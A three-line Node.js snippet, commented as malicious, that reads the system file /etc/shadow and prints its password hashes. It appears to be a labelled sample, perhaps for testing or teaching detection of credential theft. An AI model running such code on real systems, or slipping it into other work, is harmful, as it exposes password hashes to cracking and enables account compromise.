// Malicious: reads /etc/shadow (password hashes).
const fs = require('fs');
console.log(fs.readFileSync('/etc/shadow', 'utf8'));
